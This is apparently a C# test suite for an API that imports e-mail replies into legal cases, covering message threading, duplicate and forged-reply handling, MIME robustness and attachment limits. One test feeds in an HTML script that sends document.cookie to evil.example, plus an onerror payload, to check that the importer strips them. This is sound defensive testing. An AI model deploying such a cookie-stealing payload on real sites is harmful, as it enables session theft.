using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;
using CaseApi.Features.Cases;
using CaseApi.Features.Correspondence;
using CaseApi.Features.Deadlines;
using MimeKit;
using static CaseApi.Tests.Support.MailMessages;

namespace CaseApi.Tests.Features.Correspondence;

/// <summary>POST /v1/cases/{caseId}/letters/import and the Message-IDs and mail tokens it threads by (issue 15 points 3, 4, 6).</summary>
public sealed class ImportLetterTests(CaseApiFactory api) : IClassFixture<CaseApiFactory>
{
    private static readonly byte[] Pdf = "%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"u8.ToArray();

    [Fact]
    public async Task Sending_an_e_mail_letter_gives_it_a_message_id_and_a_posted_one_none()
    {
        var world = await Letters.WorldAsync(api);

        var mailed = await SendEmailAsync(world);
        var posted = await world.SendAsync(await world.DraftAsync(), "2025-04-30T10:00:00+02:00", "P14D");

        Assert.Equal($"{mailed.Id}@caseapi.invalid", mailed.MessageId);
        Assert.Null(posted.MessageId);
    }

    [Fact]
    public async Task Every_case_has_its_own_unguessable_mail_token()
    {
        var world = await Letters.WorldAsync(api);
        var other = await world.Client.CaseAsync(null, world.DefendantId);

        var token = (await world.Client.GetAsync<CaseDto>($"/v1/cases/{world.CaseId}")).MailToken;

        Assert.Matches("^[0-9a-f]{20}$", token);
        Assert.NotEqual(token, other.As<CaseDto>().MailToken);
    }

    [Fact]
    public async Task A_reply_naming_the_letter_in_in_reply_to_meets_its_deadline_with_its_attachment_and_original_kept()
    {
        var world = await Letters.WorldAsync(api);
        var sent = await SendEmailAsync(world);
        var message = Reply("Re: Unterlassungsaufforderung", "Wir geben die geforderte Erklärung nicht ab.");
        message.InReplyTo = sent.MessageId;
        message.Body = new Multipart("mixed")
        {
            new TextPart("plain") { Text = "Sehr geehrte Damen und Herren,\nwir geben die Erklärung nicht ab.\nMeta Platforms Ireland Ltd." },
            new MimePart("application", "pdf") { FileName = "stellungnahme-meta.pdf", Content = new MimeContent(new MemoryStream(Pdf)), ContentTransferEncoding = ContentEncoding.Base64 },
        };
        var raw = Bytes(message);

        var response = await ImportAsync(world, raw);

        var letter = await response.ReadAsync<LetterDto>(HttpStatusCode.Created);
        Assert.Equal(sent.Id, letter.InReplyToId);
        Assert.Equal(LetterType.Reply, letter.Type);
        Assert.Equal(LetterChannel.Email, letter.Channel);
        Assert.Equal(LetterStatus.Received, letter.Status);
        Assert.Equal(message.MessageId, letter.MessageId);
        Assert.Equal(world.DefendantId, letter.DefendantId);
        Assert.StartsWith("Sehr geehrte Damen und Herren,", letter.Body, StringComparison.Ordinal);
        // Date: Mon, 12 May 2025 11:00:00 +0200.
        Assert.Equal(new DateTimeOffset(2025, 5, 12, 9, 0, 0, TimeSpan.Zero), letter.ReceivedAt);
        var attachment = letter.Attachments.Single();
        Assert.Equal("stellungnahme-meta.pdf", attachment.FileName);
        Assert.Equal("application/pdf", attachment.ContentType);

        // An unclassified reply to a cease-and-desist letter meets its deadline, as POST /v1/cases/{caseId}/letters records one.
        var deadline = await world.Client.GetAsync<DeadlineDto>($"/v1/deadlines/{sent.Deadline!.Id}");
        Assert.Equal(DeadlineStatus.Met, deadline.Status);
        Assert.Equal(letter.Id, deadline.MetByLetterId);
        Assert.Equal(new DateTimeOffset(2025, 5, 12, 9, 0, 0, TimeSpan.Zero), deadline.MetAt);

        var original = await world.Client.GetAsync($"/v1/letters/{letter.Id}/original");
        Assert.Equal(HttpStatusCode.OK, original.StatusCode);
        Assert.Equal("message/rfc822", original.Content.Headers.ContentType?.MediaType);
        Assert.Equal(raw, await original.Content.ReadAsByteArrayAsync());
        Assert.Equal($"sha-256=:{Convert.ToBase64String(SHA256.HashData(raw))}:", original.Headers.GetValues("Repr-Digest").Single());

        var received = (await ChangeFeed.ItemsAsync(world.Client, items => items.Any(e => e.Type == "letter.received" && e.Data.Id() == letter.Id),
            "letter.received in the change feed")).Single(e => e.Type == "letter.received" && e.Data.Id() == letter.Id);
        Assert.Equal(1, received.Data.GetProperty("attachments").GetArrayLength());
    }

    [Fact]
    public async Task An_out_of_office_notice_is_filed_in_the_case_but_meets_no_deadline()
    {
        var world = await Letters.WorldAsync(api);
        var sent = await SendEmailAsync(world);
        var message = Reply("Abwesenheitsnotiz: Unterlassungsaufforderung", "Ich bin bis zum 19. Mai nicht im Büro.");
        message.InReplyTo = sent.MessageId;
        message.Headers.Add(HeaderId.AutoSubmitted, "auto-replied");

        var response = await ImportAsync(world, Bytes(message));

        var letter = await response.ReadAsync<LetterDto>(HttpStatusCode.Created);
        Assert.Equal(LetterType.Acknowledgement, letter.Type);
        Assert.Null(letter.InReplyToId);
        Assert.Equal(DeadlineStatus.Open, (await world.Client.GetAsync<DeadlineDto>($"/v1/deadlines/{sent.Deadline!.Id}")).Status);
    }

    [Fact]
    public async Task The_same_message_imported_twice_is_one_letter()
    {
        var world = await Letters.WorldAsync(api);
        var raw = Bytes(Reply("Ihre Anfrage", "Wir melden uns."));

        var first = await ImportAsync(world, raw);
        var second = await ImportAsync(world, raw);

        Assert.Equal((await first.ReadAsync<LetterDto>(HttpStatusCode.Created)).Id, (await second.ReadAsync<LetterDto>()).Id);
        Assert.Equal(1, (await world.Client.GetAsync<CaseDto>($"/v1/cases/{world.CaseId}")).LetterCount);
    }

    [Fact]
    public async Task The_same_message_in_another_case_is_refused_naming_the_case_it_is_in()
    {
        var world = await Letters.WorldAsync(api);
        var other = await world.Client.CaseAsync(null, world.DefendantId);
        var raw = Bytes(Reply("Ihre Anfrage", "Wir melden uns."));
        Assert.Equal(HttpStatusCode.Created, (await ImportAsync(world, raw)).StatusCode);

        var again = await ImportAsync(world with { CaseId = other.Id() }, raw);

        var problem = await ProblemAssert.IsProblemAsync(again, HttpStatusCode.Conflict, "message_already_recorded");
        Assert.Equal(world.CaseId, problem.GetProperty("caseId").GetGuid());
    }

    [Fact]
    public async Task A_reply_to_a_letter_of_another_case_is_refused_naming_that_case_and_recorded_nowhere()
    {
        var world = await Letters.WorldAsync(api);
        var sent = await SendEmailAsync(world);
        var other = await world.Client.CaseAsync("VZ-2025-0142", world.DefendantId);
        var message = Reply("Re: Unterlassungsaufforderung", "Nein.");
        message.References.Add(sent.MessageId!);

        var response = await ImportAsync(world with { CaseId = other.Id() }, Bytes(message));

        var problem = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.Conflict, "message_belongs_to_other_case");
        Assert.Equal(world.CaseId, problem.GetProperty("caseId").GetGuid());
        Assert.Equal(0, (await world.Client.GetAsync<CaseDto>($"/v1/cases/{other.Id()}")).LetterCount);
    }

    [Fact]
    public async Task A_forged_in_reply_to_naming_another_organisation_s_letter_threads_nothing()
    {
        var victim = await Letters.WorldAsync(api);
        var victimLetter = await SendEmailAsync(victim);
        var world = await Letters.WorldAsync(api);
        var message = Reply("Re: Unterlassungsaufforderung", "Gefälschte Antwort.");
        message.InReplyTo = victimLetter.MessageId;

        var response = await ImportAsync(world, Bytes(message));

        var letter = await response.ReadAsync<LetterDto>(HttpStatusCode.Created);
        Assert.Equal(world.CaseId, letter.CaseId);
        Assert.Null(letter.InReplyToId);
        Assert.Equal(DeadlineStatus.Open, (await victim.Client.GetAsync<DeadlineDto>($"/v1/deadlines/{victimLetter.Deadline!.Id}")).Status);
    }

    [Fact]
    public async Task The_reply_address_token_files_a_reply_to_the_case_s_one_open_letter()
    {
        var world = await Letters.WorldAsync(api);
        var sent = await SendEmailAsync(world);
        var token = (await world.Client.GetAsync<CaseDto>($"/v1/cases/{world.CaseId}")).MailToken;
        var message = Reply("Ihr Schreiben", "Wir prüfen.");
        message.To.Clear();
        message.To.Add(MailboxAddress.Parse($"cases+{token}@verbraucherzentrale.example"));

        var response = await ImportAsync(world, Bytes(message));

        Assert.Equal(sent.Id, (await response.ReadAsync<LetterDto>(HttpStatusCode.Created)).InReplyToId);
    }

    [Fact]
    public async Task The_reply_address_token_of_another_case_is_refused()
    {
        var world = await Letters.WorldAsync(api);
        var other = await world.Client.CaseAsync(null, world.DefendantId);
        var message = Reply("Ihr Schreiben", "Wir prüfen.");
        message.Cc.Add(MailboxAddress.Parse($"cases+{other.As<CaseDto>().MailToken}@verbraucherzentrale.example"));

        var response = await ImportAsync(world, Bytes(message));

        var problem = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.Conflict, "message_belongs_to_other_case");
        Assert.Equal(other.Id(), problem.GetProperty("caseId").GetGuid());
    }

    [Fact]
    public async Task The_case_reference_in_the_subject_files_the_message_in_its_case_and_a_longer_one_does_not()
    {
        var world = await Letters.WorldAsync(api);
        var other = await world.Client.CaseAsync("VZ-2025-017", world.DefendantId);

        var longer = await ImportAsync(world, Bytes(Reply("Ihr Zeichen VZ-2025-0171", "Antwort.")));
        var exact = await ImportAsync(world, Bytes(Reply("Ihr Zeichen [VZ-2025-017]", "Antwort.")));

        Assert.Equal(HttpStatusCode.Created, longer.StatusCode);
        var problem = await ProblemAssert.IsProblemAsync(exact, HttpStatusCode.Conflict, "message_belongs_to_other_case");
        Assert.Equal("VZ-2025-017", problem.GetProperty("caseReference").GetString());
        Assert.Equal(other.Id(), problem.GetProperty("caseId").GetGuid());
    }

    [Fact]
    public async Task Broken_mime_is_refused_naming_the_file()
    {
        var world = await Letters.WorldAsync(api);

        var response = await ImportAsync(world, [0x00, 0x01, 0x02, 0xFF, 0xFE]);

        await ProblemAssert.NamesInvalidFieldAsync(response, "file");
    }

    [Fact]
    public async Task A_multipart_without_its_closing_boundary_and_with_8_bit_headers_is_recorded()
    {
        var world = await Letters.WorldAsync(api);
        var raw = Encoding.Latin1.GetBytes(
            "From: Rechtsabteilung <legal@meta.example>\r\nTo: cases@verbraucherzentrale.example\r\nSubject: Stellungnahme zur Abmahnung \u00fcber KI\u00a0Training\r\n"
            + "Date: Mon, 12 May 2025 11:00:00 +0200\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
            + "--b1\r\nContent-Type: text/plain; charset=iso-8859-1\r\n\r\nGr\u00fc\u00dfe aus Dublin\0\r\n--b1\r\nContent-Type: application/pdf; name=\"x.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!");

        var response = await ImportAsync(world, raw);

        var letter = await response.ReadAsync<LetterDto>(HttpStatusCode.Created);
        Assert.Equal("Stellungnahme zur Abmahnung über KI Training", letter.Subject);
        Assert.Equal("Grüße aus Dublin", letter.Body);
    }

    [Fact]
    public async Task Multiparts_nested_ten_thousand_deep_are_recorded_without_breaking_the_parser()
    {
        var world = await Letters.WorldAsync(api);
        var raw = new StringBuilder("From: legal@meta.example\r\nSubject: Verschachtelt\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n");
        for (var depth = 1; depth <= 10_000; depth++)
        {
            raw.Append($"--b{depth - 1}\r\nContent-Type: multipart/mixed; boundary=\"b{depth}\"\r\n\r\n");
        }

        raw.Append("--b10000\r\nContent-Type: text/plain\r\n\r\nTief unten.\r\n");

        var response = await ImportAsync(world, Encoding.ASCII.GetBytes(raw.ToString()));

        Assert.Equal("Verschachtelt", (await response.ReadAsync<LetterDto>(HttpStatusCode.Created)).Subject);
    }

    [Fact]
    public async Task An_html_only_message_is_recorded_as_text_without_its_script()
    {
        var world = await Letters.WorldAsync(api);
        var message = Reply("Antwort", "");
        message.Body = new TextPart("html") { Text = "<p>Wir lehnen ab.</p><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>" };

        var response = await ImportAsync(world, Bytes(message));

        Assert.Equal("Wir lehnen ab.", (await response.ReadAsync<LetterDto>(HttpStatusCode.Created)).Body);
    }

    [Fact]
    public async Task A_forwarded_message_is_kept_as_an_eml_attachment()
    {
        var world = await Letters.WorldAsync(api);
        var inner = Reply("Original: Beschwerde", "Der ursprüngliche Text.");
        var message = Reply("Fwd: Beschwerde", "");
        message.Body = new Multipart("mixed") { new TextPart("plain") { Text = "Siehe unten." }, new MessagePart { Message = inner } };

        var response = await ImportAsync(world, Bytes(message));

        var attachment = (await response.ReadAsync<LetterDto>(HttpStatusCode.Created)).Attachments.Single();
        Assert.Equal("message/rfc822", attachment.ContentType);
        Assert.EndsWith(".eml", attachment.FileName, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_executable_attachment_is_refused_and_nothing_is_recorded()
    {
        var world = await Letters.WorldAsync(api);
        var message = Reply("Rechnung", "");
        message.Body = new Multipart("mixed")
        {
            new TextPart("plain") { Text = "Anbei." },
            new MimePart("application", "pdf") { FileName = "rechnung.pdf", Content = new MimeContent(new MemoryStream([(byte)'M', (byte)'Z', 0x90, 0x00])) },
        };

        var response = await ImportAsync(world, Bytes(message));

        var problem = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.UnsupportedMediaType, "unsupported_attachment_type");
        Assert.Contains("rechnung.pdf", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(0, (await world.Client.GetAsync<CaseDto>($"/v1/cases/{world.CaseId}")).LetterCount);
    }

    [Fact]
    public async Task An_attachment_over_25_MB_is_refused_naming_it()
    {
        var world = await Letters.WorldAsync(api);
        var big = new byte[(25 * 1024 * 1024) + 1];
        Pdf.CopyTo(big, 0);
        var message = Reply("Akte", "");
        message.Body = new Multipart("mixed")
        {
            new TextPart("plain") { Text = "Die Akte." },
            new MimePart("application", "pdf") { FileName = "akte.pdf", Content = new MimeContent(new MemoryStream(big)), ContentTransferEncoding = ContentEncoding.Base64 },
        };

        var response = await ImportAsync(world, Bytes(message));

        var problem = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.RequestEntityTooLarge, "attachment_too_large");
        Assert.Contains("akte.pdf", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Without_a_known_sender_the_import_asks_for_one()
    {
        var world = await Letters.WorldAsync(api);
        var second = await world.Client.DefendantAsync("Meta Platforms Inc.", "US");
        var @case = await world.Client.CaseAsync(null, world.DefendantId, second.Id());

        var unnamed = await ImportAsync(world with { CaseId = @case.Id() }, Bytes(Reply("Antwort", "Text.")));
        var named = await ImportAsync(world with { CaseId = @case.Id() }, Bytes(Reply("Antwort", "Text.")), $"?defendantId={second.Id()}");

        await ProblemAssert.NamesInvalidFieldAsync(unnamed, "defendantId");
        Assert.Equal(second.Id(), (await named.ReadAsync<LetterDto>(HttpStatusCode.Created)).DefendantId);
    }

    [Fact]
    public async Task A_case_without_defendants_asks_for_the_sender_and_takes_a_named_one()
    {
        // Found by the contract fuzzer: such a case read as a null defendant and answered 500.
        var world = await Letters.WorldAsync(api);
        var @case = await world.Client.CaseAsync();

        var unnamed = await ImportAsync(world with { CaseId = @case.Id() }, Bytes(Reply("Antwort", "Text.")));
        var named = await ImportAsync(world with { CaseId = @case.Id() }, Bytes(Reply("Antwort", "Text.")), $"?defendantId={world.DefendantId}");

        await ProblemAssert.NamesInvalidFieldAsync(unnamed, "defendantId");
        Assert.Equal(HttpStatusCode.Created, named.StatusCode);
    }

    [Fact]
    public async Task The_original_of_a_letter_not_imported_is_404()
    {
        var world = await Letters.WorldAsync(api);
        var draft = await world.DraftAsync();

        var response = await world.Client.GetAsync($"/v1/letters/{draft.Id}/original");

        await ProblemAssert.IsProblemAsync(response, HttpStatusCode.NotFound);
    }

    private static Task<HttpResponseMessage> ImportAsync(Letters.World world, byte[] raw, string query = "")
    {
        var file = new ByteArrayContent(raw);
        file.Headers.ContentType = new MediaTypeHeaderValue("message/rfc822");
        return world.Client.PostAsync($"/v1/cases/{world.CaseId}/letters/import{query}", new MultipartFormDataContent { { file, "file", "antwort.eml" } });
    }
}
